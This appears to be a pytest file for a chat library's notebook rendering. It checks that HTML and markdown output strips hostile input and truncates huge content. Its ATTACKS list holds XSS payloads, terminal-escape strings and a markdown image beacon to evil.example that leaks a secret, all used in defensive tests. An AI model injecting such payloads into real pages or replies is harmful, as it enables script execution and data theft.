"""What notebooks get of values, without a notebook: small whatever was said, and nothing in it acts."""

import pickle
import re
from html.parser import HTMLParser

import pytest

from chatkit import (
    AssistantTurn,
    ContentAudio,
    ContentDocument,
    ContentDocumentRemote,
    ContentImageInline,
    ContentImageRemote,
    ContentJson,
    ContentText,
    ContentThinking,
    ContentToolRequest,
    ContentToolResult,
    ModelInfo,
    ModelList,
    Reply,
    Round,
    SystemTurn,
    Usage,
    UserTurn,
    chat_openai_compatible,
)
from chatkit._render import brief, bundle
from chatkit._render.harmless import harmless
from chatkit._turns.accounting import token_rows

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details></div></section><iframe src=javascript:alert(1)></iframe>",
    "</style><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![beacon](https://evil.example/steal?secret)",
    '"><svg onload=alert(1)>',
    "\x1b[2J\x1b]0;owned\x07 \x9b31m \u202egnp.exe",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<a href='https://e.example' onclick='alert(1)'>x</a>",
]
BLOCKS = {
    "div",
    "style",
    "section",
    "p",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "hr",
    "br",
    "details",
    "summary",
    "img",
}
WORDS = {"blockquote", "em", "strong", "s", "a", "code", "small", "h1", "h2", "h3", "h4", "h5", "h6"}
TAGS = BLOCKS | WORDS | {"table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"class", "dir", "href", "rel", "src", "alt", "title", "start", "align"}


class Strict(HTMLParser):
    """Fails at any element, attribute or address that is not chatkit's own."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            assert name != "href" or value.startswith(("http://", "https://", "mailto:"))
            assert name != "src" or value.startswith("data:image/png;base64,")
            assert name != "class" or re.fullmatch(r"(chatkit(-[a-z]+)? ?)+|language-\w+", value)

    def handle_comment(self, data):
        raise AssertionError(data)


def everything(attack):
    """Every value, with the attack in every place."""
    call = ContentToolRequest(attack, attack, {attack: attack})
    media = (
        ContentImageRemote(attack),
        ContentImageInline(attack, PIXEL),
        ContentImageInline("image/png", PIXEL),
        ContentDocument(attack, "QUJD", attack),
        ContentDocumentRemote(f"https://example.org/{attack}", attack),
        ContentAudio(attack, "QUJD"),
    )
    said = (ContentThinking(attack), ContentText(attack), ContentJson([attack], attack), call)
    answer = AssistantTurn(said, model=attack, served_by=attack, interrupted=attack, usage=Usage(1, 2))
    results = UserTurn(
        [
            ContentToolResult(attack, request=call, attachments=media),
            ContentToolResult(error=attack),
            ContentToolResult({attack: attack}, request=ContentToolRequest("2", attack, None, attack)),
        ]
    )
    turns = [UserTurn([attack, *media]), answer, results]
    chat = chat_openai_compatible("http://127.0.0.1:9/v1", model=attack).set_system_prompt(attack)
    chat.set_turns([UserTurn(attack), AssistantTurn(attack, model=attack)])
    round_ = Round((SystemTurn(attack), turns[0]), (answer, results))
    models = ModelList([ModelInfo(attack)])
    rows = token_rows([UserTurn(attack), AssistantTurn(attack)])
    return [chat, round_, *turns, *said, *media, Reply(answer), models, models.capabilities(), rows]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_hostile_survives_in_any_form(attack):
    for value in everything(attack):
        forms = value._repr_mimebundle_()
        assert set(forms) == {"text/plain", "text/markdown", "text/html"}
        for text in forms.values():
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), type(value)
        reader = Strict()
        reader.feed(forms["text/html"])
        reader.close()
        _check_markdown(forms["text/markdown"])


def _check_markdown(text):
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True
    tokens = [token for block in parser.parse(text) for token in (block, *(block.children or ()))]
    for token in tokens:
        if token.type in ("html_block", "html_inline"):
            left = re.sub(r"</?(details|summary|code|sub)>|<code>[^<>]*</code>", "", token.content)
            assert "<" not in left, token.content
        assert token.type != "image"
        if token.type == "link_open":
            assert token.attrs["href"].lower().startswith(("http://", "https://", "mailto:"))


def forms_of(value):
    made = value._repr_mimebundle_()
    assert all(len(text) < 2_600_000 for text in made.values())
    return made


def test_a_huge_tool_result_is_cut_with_a_note():
    turn = UserTurn([ContentToolResult("x" * 5_000_000)])
    forms = forms_of(turn)
    assert "... (4,995,000 more characters)" in forms["text/html"]
    assert "... (4,995,000 more characters)" in forms["text/markdown"]
    assert all(len(text) < 30_000 for text in forms.values())


@pytest.mark.parametrize(
    "content",
    [
        ContentText("word " * 1_000_000),
        ContentThinking("word " * 1_000_000),
        ContentJson(["word"] * 500_000, '["word", ' * 500_000),
        ContentToolRequest("1", "f", {"a": "b" * 5_000_000}),
        ContentToolResult(error="e" * 5_000_000),
    ],
)
def test_every_huge_content_is_cut(content):
    forms = forms_of(AssistantTurn((content,)))
    assert "more characters)" in forms["text/html"]
    assert all(len(text) < 150_000 for text in forms.values())


def test_of_many_long_texts_each_gets_a_share_and_short_ones_stay_whole():
    turns = [turn for at in range(100) for turn in (UserTurn(f"question {at}!"), AssistantTurn("a" * 20_000))]
    chat = chat_openai_compatible("http://127.0.0.1:9/v1", model="m").set_turns(turns)
    html = forms_of(chat)["text/html"]
    assert all(f"question {at}!" in html for at in range(100))
    assert html.count("more characters)") == 100
    assert len(html) < 300_000


def test_of_a_very_long_chat_the_middle_is_counted():
    turns = [turn for at in range(600) for turn in (UserTurn(f"q{at}."), AssistantTurn(f"a{at}."))]
    chat = chat_openai_compatible("http://127.0.0.1:9/v1", model="m").set_turns(turns)
    for text in (forms_of(chat)["text/html"], forms_of(chat)["text/markdown"]):
        assert "200 turns are not shown" in text
        assert "q0." in text
        assert "a0." not in text
        assert "a599." in text


def test_pictures_are_shown_until_there_are_too_many(monkeypatch):
    monkeypatch.setattr(brief, "_PICTURES", 2 * len(PIXEL))
    image = ContentImageInline("image/png", PIXEL)
    turns = [UserTurn(["first", image]), UserTurn(["then", image]), UserTurn([ContentToolResult(attachments=(image,))])]
    html = bundle.shown_html(turns)
    assert html.count("<img") == 2
    assert html.index("image/png, too large to be shown here") < html.index("<img")


def test_what_is_huge_in_other_places_is_shown_in_short():
    forms = forms_of(AssistantTurn("Hi.", model="m" * 3_000_000))
    assert "&lt;" not in forms["text/html"]
    assert "mmm" in forms["text/html"]
    assert len(forms["text/html"]) + len(forms["text/markdown"]) < 60_000
    assert forms["text/plain"].endswith("characters)")


def test_only_a_notebook_leaves_out_what_stands_above(monkeypatch):
    # IPython goes on to the other forms when this one is not there.
    told = [Reply(AssistantTurn("Hi"), True), Reply(AssistantTurn("Hi")), Reply(AssistantTurn("Hi"), lambda: False)]
    for reply in told:
        with pytest.raises(NotImplementedError):
            reply._ipython_display_()
    monkeypatch.setattr("chatkit._display.notebook.where.notebook", lambda: object())
    assert told[0]._ipython_display_() is None
    for reply in told[1:]:
        with pytest.raises(NotImplementedError):
            reply._ipython_display_()


def test_marimo_shows_html_even_of_a_reply_that_was_shown_before():
    reply = Reply(AssistantTurn("**Hi**"), True)
    assert reply._repr_html_() is None
    assert reply._repr_markdown_() is None
    assert "<strong>Hi</strong>" in reply._display_()._repr_html_()
    assert "<strong>Hi</strong>" in Reply(AssistantTurn("**Hi**"))._display_()._repr_html_()
    assert reply._marimo_serialize_() == "**Hi**"
    assert "<table>" in token_rows([])._display_()._repr_html_()


def test_showing_costs_nothing_else():
    text = ContentText("a")
    assert not hasattr(text, "__dict__")
    assert pickle.loads(pickle.dumps(text)) == text
    rows = token_rows([UserTurn("a"), AssistantTurn("b")])
    assert pickle.loads(pickle.dumps(rows)) == rows


def test_the_same_text_is_safe_in_markdown_and_shown_as_markdown():
    assert ContentText("**a** <b>")._repr_markdown_() == harmless("**a** <b>")


def test_dir_gives_what_is_for_people():
    chat = chat_openai_compatible("http://127.0.0.1:9/v1", model="m")
    for value in (chat, UserTurn("a"), Reply(AssistantTurn("b")), ContentText("c")):
        assert not [name for name in dir(value) if name.startswith("_") and not name.startswith("__")]
        assert "wording" not in dir(value)
    assert {"chat", "stream", "turns", "model"} <= set(dir(chat))
